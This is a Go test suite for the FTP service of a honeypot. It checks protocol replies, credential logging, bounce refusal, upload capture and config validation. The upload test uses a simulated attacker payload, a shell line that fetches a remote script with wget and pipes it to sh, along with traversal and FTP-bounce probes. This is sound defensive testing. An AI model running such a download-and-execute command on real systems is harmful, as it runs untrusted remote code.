package ftp

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/honeypot"
	"github.com/decnet-go/decnet/internal/honeypot/hptest"
	"github.com/decnet-go/decnet/internal/persona"
)

func TestMain(m *testing.M) {
	failDelayScale = 0
	acceptTimeout = 3 * time.Second
	connectTimeout = 3 * time.Second
	os.Exit(m.Run())
}

var testPersona = func() *persona.Persona {
	p, err := persona.NewWithDistro([]byte("secret"), "decky-test", "debian")
	if err != nil {
		panic(err)
	}
	return p
}()

// testServer is a running ftp service on a loopback port.
type testServer struct {
	addr    string
	rec     *hptest.Recorder
	drops   *honeypot.Drops
	state   string
	persona *persona.Persona
}

func startServer(t testing.TB, cfg map[string]string) *testServer {
	t.Helper()
	dir := t.TempDir()
	ts := &testServer{rec: &hptest.Recorder{}, state: filepath.Join(dir, "state"),
		drops: &honeypot.Drops{Root: filepath.Join(dir, "drops")}, persona: testPersona}
	env := hptest.Env(t, testPersona, cfg, ts.rec)
	env.StateDir, env.Drops = ts.state, ts.drops
	ts.addr, _ = hptest.Serve(t, New(), env)
	return ts
}

// client is a raw control connection.
type client struct {
	t testing.TB
	c net.Conn
	r *bufio.Reader
}

func dial(t testing.TB, addr string) *client {
	t.Helper()
	c := hptest.Dial(t, addr)
	c.SetDeadline(time.Now().Add(20 * time.Second))
	return &client{t: t, c: c, r: bufio.NewReader(c)}
}

// read returns one reply, all its lines, with CR LF.
func (c *client) read() string {
	c.t.Helper()
	var b strings.Builder
	for {
		line, err := c.r.ReadString('\n')
		b.WriteString(line)
		if err != nil {
			if b.Len() == 0 {
				return "<" + err.Error() + ">"
			}
			return b.String()
		}
		if len(line) >= 4 && line[3] == ' ' && line[0] >= '0' && line[0] <= '9' {
			return b.String()
		}
	}
}

// cmd sends a line and returns the reply.
func (c *client) cmd(line string) string {
	c.t.Helper()
	if _, err := io.WriteString(c.c, line+"\r\n"); err != nil {
		return "<" + err.Error() + ">"
	}
	return c.read()
}

func (c *client) login(user, pw string) {
	c.t.Helper()
	c.cmd("USER " + user)
	if r := c.cmd("PASS " + pw); !strings.HasPrefix(r, "230") {
		c.t.Fatalf("login %s: %q", user, r)
	}
}

// epsv opens a passive data connection.
func (c *client) epsv() net.Conn {
	c.t.Helper()
	r := c.cmd("EPSV")
	var port int
	if _, err := fmt.Sscanf(r, "229 Entering Extended Passive Mode (|||%d|)", &port); err != nil {
		c.t.Fatalf("EPSV: %q", r)
	}
	host, _, _ := net.SplitHostPort(c.c.RemoteAddr().String())
	d, err := net.DialTimeout("tcp", net.JoinHostPort(host, fmt.Sprint(port)), 5*time.Second)
	if err != nil {
		c.t.Fatal(err)
	}
	d.SetDeadline(time.Now().Add(10 * time.Second))
	return d
}

// transfer runs a command over a fresh passive connection, sending up
// (when not nil) and returning what came back and the two replies.
func (c *client) transfer(line string, up []byte) (data, start, end string) {
	c.t.Helper()
	d := c.epsv()
	defer d.Close()
	start = c.cmd(line)
	if !strings.HasPrefix(start, "150") {
		return "", start, ""
	}
	if up != nil {
		d.Write(up)
		d.Close()
	} else {
		b, _ := io.ReadAll(d)
		data = string(b)
	}
	return data, start, c.read()
}

func TestGreeting(t *testing.T) {
	tests := []struct {
		name string
		cfg  map[string]string
		want string
	}{
		{"vsftpd on debian", nil, "220 (vsFTPd 3.0.3)\r\n"},
		{"proftpd names the host", map[string]string{"flavor": "proftpd"}, "220 ProFTPD Server (" + testPersona.Hostname + ") [::ffff:127.0.0.1]\r\n"},
		{"operator banner", map[string]string{"banner": "Welcome to ACME FTP"}, "220 Welcome to ACME FTP\r\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := startServer(t, tc.cfg)
			if got := dial(t, srv.addr).read(); got != tc.want {
				t.Errorf("greeting %q, want %q", got, tc.want)
			}
		})
	}
	ubuntu, _ := persona.NewWithDistro([]byte("secret"), "decky-u", "ubuntu22")
	if got := vsftpd.greeting(ubuntu, ""); got != "(vsFTPd 3.0.5)" {
		t.Errorf("ubuntu 22.04 greeting %q", got)
	}
}

// The answers before and after login, worded as vsftpd words them.
func TestCommandReplies(t *testing.T) {
	srv := startServer(t, nil)
	c := dial(t, srv.addr)
	c.read()
	user := testPersona.Logins[1]
	steps := []struct{ send, want string }{
		{"SYST", "530 Please login with USER and PASS.\r\n"},
		{"LIST", "530 Please login with USER and PASS.\r\n"},
		{"PASS x", "503 Login with USER first.\r\n"},
		{"FEAT", "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n TVFS\r\n211 End\r\n"},
		{"USER anonymous", "331 Please specify the password.\r\n"},
		{"PASS a@b.c", "530 Login incorrect.\r\n"},
		{"USER " + user.User, "331 Please specify the password.\r\n"},
		{"PASS " + user.Password, "230 Login successful.\r\n"},
		{"SYST", "215 UNIX Type: L8\r\n"},
		{"PWD", "257 \"" + user.Home + "\" is the current directory\r\n"},
		{"FOO", "500 Unknown command.\r\n"},
		{"TYPE I", "200 Switching to Binary mode.\r\n"},
		{"TYPE X", "500 Unrecognised TYPE command.\r\n"},
		{"MODE S", "200 Mode set to S.\r\n"},
		{"STRU R", "504 Bad STRU command.\r\n"},
		{"CWD /nonexistent", "550 Failed to change directory.\r\n"},
		{"CWD /root", "550 Failed to change directory.\r\n"},
		{"CWD /etc", "250 Directory successfully changed.\r\n"},
		{"CDUP", "250 Directory successfully changed.\r\n"},
		{"PWD", "257 \"/\" is the current directory\r\n"},
		{"SIZE /etc/hostname", fmt.Sprintf("213 %d\r\n", len(testPersona.Hostname)+1)},
		{"SIZE /etc", "550 Could not get file size.\r\n"},
		{"MDTM /nope", "550 Could not get file modification time.\r\n"},
		{"LIST", "425 Use PORT or PASV first.\r\n"},
		{"RETR /etc/shadow", "425 Use PORT or PASV first.\r\n"},
		{"PORT 10,9,8,7,200,1", "500 Illegal PORT command.\r\n"},
		{"PORT 127,0,0,1,0,25", "500 Illegal PORT command.\r\n"},
		{"PORT garbage", "500 Illegal PORT command.\r\n"},
		{"PORT 127,0,0,1,200,1", "200 PORT command successful. Consider using PASV.\r\n"},
		{"EPRT |1|10.9.8.7|5555|", "500 Illegal EPRT command.\r\n"},
		{"EPRT |2|::1|5555|", "500 Bad EPRT protocol.\r\n"},
		{"EPRT junk", "500 Bad EPRT command.\r\n"},
		{"EPSV 2", "522 Bad network protocol.\r\n"},
		{"MKD /etc/x", "550 Create directory operation failed.\r\n"},
		{"MKD " + user.Home + "/d", "257 \"" + user.Home + "/d\" created\r\n"},
		{"RMD " + user.Home + "/d", "250 Remove directory operation successful.\r\n"},
		{"DELE /etc/passwd", "550 Delete operation failed.\r\n"},
		{"RNTO x", "503 RNFR required first.\r\n"},
		{"RNFR /nope", "550 RNFR command failed.\r\n"},
		{"REST 10", "350 Restart position accepted (10).\r\n"},
		{"NOOP", "200 NOOP ok.\r\n"},
		{"USER root", "530 Can't change to another user.\r\n"},
		{"PASS x", "230 Already logged in.\r\n"},
		{"OPTS UTF8 ON", "200 Always in UTF8 mode.\r\n"},
		{"HELP", "214-The following commands are recognized.\r\n" + strings.Join(vsftpd.help, "\r\n") + "\r\n214 Help OK.\r\n"},
		{"QUIT", "221 Goodbye.\r\n"},
	}
	for _, st := range steps {
		if got := c.cmd(st.send); got != st.want {
			t.Errorf("%s: got %q, want %q", st.send, got, st.want)
		}
	}
}

// Every USER/PASS pair becomes a login_attempt with the credential; the
// persona's weak password succeeds, and a bounce attempt is noted.
func TestLoginEvents(t *testing.T) {
	srv := startServer(t, nil)
	c := dial(t, srv.addr)
	c.read()
	c.cmd("USER admin")
	c.cmd("PASS hunter2")
	root := testPersona.Logins[0]
	c.login(root.User, root.Password)
	c.cmd("PORT 192,0,2,1,0,80")
	c.cmd("QUIT")
	got := srv.rec.WaitFor(t, event.TypeLoginAttempt, 2)
	want := []struct{ user, pw, outcome string }{{"admin", "hunter2", event.OutcomeFailure}, {root.User, root.Password, event.OutcomeSuccess}}
	for i, w := range want {
		cr := got[i].Credential
		if cr == nil || cr.Principal != w.user || cr.SecretPrintable != w.pw || cr.Outcome != w.outcome || got[i].SrcIP != "127.0.0.1" {
			t.Errorf("attempt %d = %+v %+v, want %+v", i, got[i], cr, w)
		}
	}
	srv.rec.WaitFor(t, event.TypeDisconnect, 1)
	var bounce bool
	for _, e := range srv.rec.OfType(event.TypeCommand) {
		if e.Fields["command"] == "PASS" {
			t.Errorf("a PASS command event repeats the password: %+v", e)
		}
		if e.Fields["command"] == "PORT" && e.Fields["bounce_target"] == "192.0.2.1:80" && e.Fields["code"] == 500 {
			bounce = true
		}
	}
	if !bounce {
		t.Errorf("no command event records the refused bounce: %+v", srv.rec.OfType(event.TypeCommand))
	}
	for _, e := range srv.rec.Events() {
		if err := e.Validate(); err != nil {
			t.Errorf("invalid event %+v: %v", e, err)
		}
	}
}

// The third failed login ends the connection, as vsftpd's max_login_fails.
func TestMaxLoginFails(t *testing.T) {
	srv := startServer(t, nil)
	c := dial(t, srv.addr)
	c.read()
	for range 3 {
		c.cmd("USER bob")
		if r := c.cmd("PASS bad"); r != "530 Login incorrect.\r\n" {
			t.Fatalf("PASS: %q", r)
		}
	}
	if r := c.cmd("USER bob"); !strings.HasPrefix(r, "<") {
		t.Errorf("connection still open after three failures: %q", r)
	}
}

// A logged-in attacker lists, fetches persona and dropped files, and
// uploads: the upload is kept as an artifact, reported, and listed.
func TestTransfers(t *testing.T) {
	srv := startServer(t, nil)
	if err := srv.drops.Write("/home/"+testPersona.User+"/backup.sql", []byte("-- dump\nINSERT INTO users VALUES ('admin','x');\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	u := testPersona.Logins[1]
	c := dial(t, srv.addr)
	c.read()
	c.login(u.User, u.Password)

	list, start, end := c.transfer("LIST", nil)
	if start != "150 Here comes the directory listing.\r\n" || end != "226 Directory send OK.\r\n" || !strings.Contains(list, " backup.sql\r\n") {
		t.Fatalf("LIST: %q %q %q", start, list, end)
	}
	if strings.Contains(list, ".bashrc") {
		t.Errorf("LIST without -a shows dot files: %q", list)
	}
	line := list[:strings.Index(list, "\r\n")]
	if !strings.HasPrefix(line, "-rw-r--r--    1 0        0              48 ") {
		t.Errorf("vsftpd line %q", line)
	}
	passwd, start, _ := c.transfer("RETR /etc/passwd", nil)
	if want := testPersona.Files()["/etc/passwd"].Content; passwd != want {
		t.Errorf("RETR /etc/passwd = %q, want the persona's", passwd)
	}
	if !strings.HasPrefix(start, "150 Opening BINARY mode data connection for /etc/passwd (") {
		t.Errorf("RETR start %q", start)
	}
	if _, start, _ := c.transfer("RETR /etc/shadow", nil); start != "550 Failed to open file.\r\n" {
		t.Errorf("RETR /etc/shadow as a user: %q", start)
	}
	dump, _, _ := c.transfer("RETR backup.sql", nil)
	if !strings.HasPrefix(dump, "-- dump") {
		t.Errorf("RETR of the drop = %q", dump)
	}
	payload := []byte("#!/bin/sh\nwget http://198.51.100.9/x -O- | sh\n")
	_, start, end = c.transfer("STOR x.sh", payload)
	if start != "150 Ok to send data.\r\n" || end != "226 Transfer complete.\r\n" {
		t.Fatalf("STOR: %q %q", start, end)
	}
	ev := srv.rec.WaitFor(t, event.TypeFileCaptured, 1)[0]
	sum := sha256.Sum256(payload)
	if ev.Fields["sha256"] != hex.EncodeToString(sum[:]) || ev.Fields["size"] != int64(len(payload)) ||
		ev.Fields["orig_path"] != u.Home+"/x.sh" || ev.Fields["username"] != u.User {
		t.Errorf("file_captured = %+v", ev.Fields)
	}
	kept, err := os.ReadFile(filepath.Join(srv.state, "artifacts", ev.Fields["stored_as"].(string)))
	if err != nil || string(kept) != string(payload) {
		t.Errorf("artifact = %q, %v", kept, err)
	}
	list, _, _ = c.transfer("LIST x.sh", nil)
	if !strings.HasPrefix(list, "-rw-------    1 1000     1000           46 ") {
		t.Errorf("uploaded file listed as %q", list)
	}
	back, _, _ := c.transfer("RETR x.sh", nil)
	if back != string(payload) {
		t.Errorf("uploaded file reads back %q", back)
	}
	if r := c.cmd("DELE x.sh"); r != "250 Delete operation successful.\r\n" {
		t.Errorf("DELE: %q", r)
	}
}

// Passive connections from another address are refused, as vsftpd's
// pasv_promiscuous=NO.
func TestPassiveOtherHost(t *testing.T) {
	srv := startServer(t, nil)
	c := dial(t, srv.addr)
	c.read()
	u := testPersona.Logins[1]
	c.login(u.User, u.Password)
	r := c.cmd("EPSV")
	var port int
	fmt.Sscanf(r, "229 Entering Extended Passive Mode (|||%d|)", &port)
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}, Timeout: 5 * time.Second}
	dc, err := d.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
	if err != nil {
		t.Skipf("cannot bind 127.0.0.2: %v", err)
	}
	defer dc.Close()
	if got := c.cmd("LIST"); got != "425 Security: Bad IP connecting.\r\n" {
		t.Errorf("LIST over a foreign data connection: %q", got)
	}
}

// Active mode connects back to the client's address only.
func TestActiveMode(t *testing.T) {
	srv := startServer(t, nil)
	c := dial(t, srv.addr)
	c.read()
	u := testPersona.Logins[1]
	c.login(u.User, u.Password)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	ap := l.Addr().(*net.TCPAddr).AddrPort()
	if r := c.cmd("PORT " + pasvReply(ap)); !strings.HasPrefix(r, "200") {
		t.Fatalf("PORT: %q", r)
	}
	got := make(chan string, 1)
	go func() {
		dc, err := l.Accept()
		if err != nil {
			got <- err.Error()
			return
		}
		defer dc.Close()
		dc.SetDeadline(time.Now().Add(5 * time.Second))
		b, _ := io.ReadAll(dc)
		got <- string(b)
	}()
	if r := c.cmd("NLST /etc"); !strings.HasPrefix(r, "150") {
		t.Fatalf("NLST: %q", r)
	}
	if names := <-got; !strings.Contains(names, "passwd\r\n") {
		t.Errorf("NLST over active connection: %q", names)
	}
	if r := c.read(); r != "226 Directory send OK.\r\n" {
		t.Errorf("NLST end %q", r)
	}
}

// Anonymous logins, when on, land read-only in /srv/ftp with its drops.
func TestAnonymous(t *testing.T) {
	srv := startServer(t, map[string]string{"anonymous": "true"})
	srv.drops.Write("/srv/ftp/pub/firmware.bin", []byte("\x7fELF"), 0o644)
	c := dial(t, srv.addr)
	c.read()
	c.login("anonymous", "guest@example.com")
	steps := []struct{ send, want string }{
		{"PWD", "257 \"/\" is the current directory\r\n"},
		// /srv/ftp/etc does not exist: the attempt fails and never escapes.
		{"CWD ../../etc", "550 Failed to change directory.\r\n"},
		{"CWD /pub", "250 Directory successfully changed.\r\n"},
		{"CWD ../../..", "250 Directory successfully changed.\r\n"},
		{"PWD", "257 \"/\" is the current directory\r\n"},
		{"SIZE pub/firmware.bin", "213 4\r\n"},
		{"MKD x", "550 Permission denied.\r\n"},
		{"SITE HELP", "550 Permission denied.\r\n"},
	}
	for _, st := range steps {
		if got := c.cmd(st.send); got != st.want {
			t.Errorf("%s: %q, want %q", st.send, got, st.want)
		}
	}
	if _, start, _ := c.transfer("STOR up.txt", []byte("x")); start != "550 Permission denied.\r\n" {
		t.Errorf("anonymous STOR: %q", start)
	}
	if e := srv.rec.WaitFor(t, event.TypeLoginAttempt, 1)[0]; e.Fields["anonymous"] != true || e.Credential.Outcome != event.OutcomeSuccess {
		t.Errorf("anonymous login event %+v", e)
	}
}

func TestProFTPDFlavor(t *testing.T) {
	srv := startServer(t, map[string]string{"flavor": "proftpd"})
	c := dial(t, srv.addr)
	c.read()
	u := testPersona.Logins[1]
	steps := []struct{ send, want string }{
		{"SYST", "530 Please login with USER and PASS\r\n"},
		{"USER " + u.User, "331 Password required for " + u.User + "\r\n"},
		{"PASS " + u.Password, "230 User " + u.User + " logged in\r\n"},
		{"FOO", "500 FOO not understood\r\n"},
		{"CWD /nope", "550 /nope: No such file or directory\r\n"},
		{"TYPE I", "200 Type set to I\r\n"},
	}
	for _, st := range steps {
		if got := c.cmd(st.send); got != st.want {
			t.Errorf("%s: %q, want %q", st.send, got, st.want)
		}
	}
	list, _, _ := c.transfer("LIST /etc/hostname", nil)
	if !strings.HasPrefix(list, "-rw-r--r--   1 root     root           ") {
		t.Errorf("ProFTPD LIST line %q", list)
	}
}

func TestSchema(t *testing.T) {
	bad := []map[string]string{
		{"flavor": "wuftpd"},
		{"anonymous": "maybe"},
		{"max_upload": "-1"},
		{"pasv_min_port": "50000"},
		{"pasv_min_port": "60000", "pasv_max_port": "50000"},
		{"banner": "two\nlines"},
		{"colour": "blue"},
	}
	for _, cfg := range bad {
		if _, err := parseConfig(Service{}, cfg); err == nil {
			t.Errorf("config %v accepted", cfg)
		}
	}
	good := map[string]string{"flavor": "proftpd", "anonymous": "true", "max_upload": "1024", "pasv_min_port": "50000", "pasv_max_port": "50010"}
	if _, err := parseConfig(Service{}, good); err != nil {
		t.Errorf("config %v: %v", good, err)
	}
}

// An upload over max_upload is cut off and kept up to the cap.
func TestUploadCap(t *testing.T) {
	srv := startServer(t, map[string]string{"max_upload": "100"})
	c := dial(t, srv.addr)
	c.read()
	u := testPersona.Logins[1]
	c.login(u.User, u.Password)
	_, _, end := c.transfer("STOR big.bin", make([]byte, 5000))
	if end != "451 Failure writing to local file.\r\n" {
		t.Errorf("oversized STOR ended %q", end)
	}
	ev := srv.rec.WaitFor(t, event.TypeFileCaptured, 1)[0]
	if ev.Fields["size"] != int64(100) || ev.Fields["truncated"] != true {
		t.Errorf("capped capture %+v", ev.Fields)
	}
}
